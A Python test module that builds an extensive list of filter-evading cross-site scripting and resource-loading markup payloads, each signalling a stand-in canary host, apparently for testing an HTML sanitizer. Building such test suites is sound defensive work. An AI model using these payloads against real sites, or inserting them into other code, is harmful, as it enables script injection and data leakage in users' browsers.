"""Markup that runs scripts, loads something or sends something, in the ways that are known to get past filters.

RUN stands for a script that is seen if it runs: it writes to the console and asks a canary for something.
"""

CANARY = "http://canary.test/"
RUN = f"console.log('RAN');new Image().src='{CANARY}ran'"
_Q = RUN.replace("'", "&#39;")

_HANDLERS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle"),
    *("onbegin", "onpageshow", "onscroll", "onresize", "onpointerenter", "onwheel", "onstart"),
    *("onbeforescriptexecute", "oncontentvisibilityautostatechange", "onscrollsnapchange"),
)
_ELEMENTS = (
    *("img src=x", "body", "svg", "input autofocus", "details open", "video src=x", "audio src=x"),
    *(
        "iframe src=x",
        "object data=x",
        "marquee",
        "div style='animation:x 1s' tabindex=1 autofocus",
    ),
)
_SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" java\nscript:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"/>",
)
_CARRIERS = (
    '<a href="{}" id=a autofocus>click</a>',
    '<iframe src="{}"></iframe>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<form action="{}"><input type=submit autofocus></form>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<img src="{}">',
    '<link rel=stylesheet href="{}">',
    '<base href="{}">',
)
_SINGLE = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<script src={CANARY}x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={CANARY}x.js /></svg>",
    f'<svg><animate onbegin="{_Q}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{_Q}"><text y=20>x</text></a></svg>',
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload='{_Q}'/>#x\"/></svg>",
    f'<svg><foreignObject><iframe srcdoc="<script>{_Q}</script>"></iframe></foreignObject></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_Q}"></style></mglyph></table></mtext></math>',
    f'<math><maction actiontype=statusline xlink:href="javascript:{_Q}">x</maction></math>',
    f"<noscript><p title=\"</noscript><img src=x onerror='{_Q}'>\">",
    f'<noembed><img src=x onerror="{_Q}"></noembed>',
    f"<style><img src=\"</style><img src=x onerror='{_Q}'>\"></style>",
    f"<style>@import '{CANARY}x.css'; body {{ background: url({CANARY}x.png) }}</style>",
    f"<style>@\\69mport '{CANARY}x.css'; body {{ background: u\\72l({CANARY}x.png) }}</style>",
    f"<style>@font-face {{ font-family: x; src: url({CANARY}x.woff) }} body {{ font-family: x }}</style>",
    f"<style>body {{ background: image-set('{CANARY}x.png' 1x) }} </style>",
    f"<style>*{{background:-webkit-image-set(url({CANARY}y.png) 1x)}}</style>",
    f"<style>/*</style><script>{RUN}</script>*/</style>",
    f'<div style="background:url({CANARY}x.png)">x</div>',
    f'<div style="background:u\\72l({CANARY}x.png)">x</div>',
    f'<div style="background:url(javascript:{_Q})">x</div>',
    f'<div style="width:expression({_Q})">x</div>',
    f'<div style="-moz-binding:url({CANARY}x.xml#x);behavior:url(x.htc)">x</div>',
    f"<div style=\"content:'</style><script>{_Q}</script>'\">x</div>",
    f'<template><img src=x onerror="{_Q}"></template>',
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f'<iframe srcdoc="<script>{_Q}</script>"></iframe>',
    f"<iframe srcdoc='&lt;img src=x onerror={_Q}&gt;'></iframe>",
    f'<frameset><frame src="javascript:{_Q}"></frameset>',
    f"<img src={CANARY}a.png srcset='{CANARY}b.png 2x' lowsrc={CANARY}c.png dynsrc={CANARY}d>",
    f"<picture><source srcset={CANARY}e.png><img src={CANARY}f.png></picture>",
    f"<video poster={CANARY}g.png src={CANARY}h.mp4><track src={CANARY}i.vtt></video>",
    f"<audio src={CANARY}j.mp3 autoplay></audio>",
    f"<input type=image src={CANARY}k.png>",
    f"<body background={CANARY}l.png>",
    f"<table background={CANARY}m.png><td background={CANARY}n.png>x</table>",
    f"<link rel=preload as=image href={CANARY}o.png><link rel=dns-prefetch href={CANARY}>",
    f"<link rel=import href={CANARY}p.html><link rel=manifest href={CANARY}q>",
    f"<object type=text/x-scriptlet data={CANARY}r></object>",
    f"<applet code=x archive={CANARY}s></applet>",
    f"<bgsound src={CANARY}t><embed src={CANARY}u.swf allowscriptaccess=always>",
    f'<isindex type=image src=1 onerror="{_Q}">',
    f'<form><button formaction="javascript:{_Q}" autofocus>x</button></form>',
    f"<form id=f action={CANARY}post method=post></form><input form=f type=submit autofocus>",
    f"<a href={CANARY} ping={CANARY}ping target=_top>x</a>",
    f'<meta http-equiv=Content-Security-Policy content="script-src *"><script>{RUN}</script>',
    f"<meta http-equiv=refresh content='0;{CANARY}v'>",
    f"<meta http-equiv=set-cookie content='a=b'><meta charset=utf-7>+ADw-script+AD4-{RUN}",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f'\'><img src=x onerror="{_Q}">',
    f"&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
    f'&#34;&#62;<img src=x onerror="{_Q}">',
    f"</textarea></title></style></iframe><script>{RUN}</script>",
    f'<title></title><img src=x onerror="{_Q}"></title>',
    f'<textarea></textarea><img src=x onerror="{_Q}"></textarea>',
    f'<xmp><img src=x onerror="{_Q}"></xmp><plaintext><img src=x onerror="{_Q}">',
    f"<p title='\"></iframe><script>{_Q}</script>'>x</p>",
    f"<p class='\"><script>{_Q}</script>' lang='\"><img onerror={_Q} src=x>'>x</p>",
    f'<p id="pagekin-field" title=\'x" onmouseover="{_Q}\'>x</p>',
    f'<x-y onclick="{_Q}" is=script>{RUN}</x-y>',
    f'<?xml-stylesheet href="javascript:{_Q}"?><?php {RUN} ?>',
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f'<img src=x\x00 onerror="{_Q}"><scr\x00ipt>{RUN}</scr\x00ipt>',
    f"<img/src=x/onerror={RUN.replace(' ', '/**/')}>",
    f'<img src=`x` onerror="{_Q}">',
    f"<a href=about:srcdoc#x target=_parent>x</a><dialog open><script>{RUN}</script></dialog>",
    f"<portal src={CANARY}w></portal><fencedframe src={CANARY}></fencedframe>",
)

PAYLOADS = (
    *_SINGLE,
    *(f'<{element} {handler}="{_Q}">x' for element in _ELEMENTS for handler in _HANDLERS[:4]),
    *(
        f'<div {handler}="{_Q}" tabindex=1 autofocus style="height:1px">x</div>'
        for handler in _HANDLERS
    ),
    *(
        carrier.format(scheme)
        for carrier in _CARRIERS
        for scheme in _SCHEMES[:: len(_SCHEMES) // 4]
    ),
    *(_CARRIERS[0].format(scheme) for scheme in _SCHEMES),
)


def page_with(payload):
    """Put markup into a page with a text that can be seen."""
    return (
        f"<html><head><title>x</title></head><body><p>Price: <b>€ 5</b></p>{payload}"
        "<p>the end</p></body></html>"
    ).encode("utf-8", "replace")
